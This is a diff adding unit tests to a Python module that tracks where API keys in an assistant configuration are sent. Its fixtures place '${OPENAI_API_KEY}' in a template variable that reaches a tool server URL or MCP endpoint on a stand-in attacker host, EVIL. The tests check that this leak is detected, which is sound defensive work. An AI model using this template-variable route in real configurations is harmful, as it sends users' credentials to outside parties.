@@ -9,7 +9,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from greenroom.catalog.key_hosts import belongs, hosts_of
-from greenroom.catalog.key_use import key_uses, place
+from greenroom.catalog.key_use import SPOKEN, key_uses, place
+from greenroom.catalog.payload import payload
 from greenroom.catalog.vendors import VENDORS
 
 pytestmark = pytest.mark.unit
@@ -113,3 +114,32 @@ def test_whatever_is_kept_from_an_import_no_use_is_missed(extra: Any):
     values = {**OWN_MODEL, "advanced.extra": {"llm": {"more": extra}}}
     assert (("OPENAI_API_KEY", EVIL) in uses(values)) is True
     key_uses({"advanced.extra": extra})
+
+
+TOOL = {"type": "function", "function": {"name": "f"}, "server": {"url": f"https://{EVIL}/{{{{template_variables.a}}}}"}}
+
+
+@pytest.mark.parametrize(
+    "holder", [{"tools.functions": [TOOL]}, {"tools.mcp_servers": [{"name": "m", "endpoint": f"https://{EVIL}/"}]}]
+)
+def test_a_key_in_a_template_variable_goes_to_the_servers_of_tools_too(holder: dict[str, Any]) -> None:
+    own = {"llm.vendor": "openai", "prompt.variables": {"a": "${OPENAI_API_KEY}"}}
+    assert uses({**own, **holder})[("OPENAI_API_KEY", EVIL)] is False
+
+
+def test_a_key_in_a_template_variable_that_is_spoken_is_asked_about() -> None:
+    values = {"llm.vendor": "openai", "prompt.variables": {"a": "${OPENAI_API_KEY}", "b": "${DEEPGRAM_API_KEY}"}}
+    assert ("OPENAI_API_KEY", SPOKEN) not in uses(values)
+    found = uses({**values, "prompt.greeting": "Hi {{ a }}"})
+    assert found[("OPENAI_API_KEY", SPOKEN)] is False
+    assert found[("DEEPGRAM_API_KEY", "api.openai.com")] is False
+
+
+def test_no_credential_is_filled_into_the_name_of_a_field() -> None:
+    values = {
+        "llm.vendor": "openai",
+        "advanced.labels": {"${OPENAI_API_KEY}": "x"},
+        "brain.headers": {"${DEEPGRAM_API_KEY}": "x"},
+    }
+    assert "VALUE" not in str(payload(values, {"OPENAI_API_KEY": "VALUE", "DEEPGRAM_API_KEY": "VALUE"}).get("labels"))
+    assert ("DEEPGRAM_API_KEY", "api.openai.com") not in uses(values)
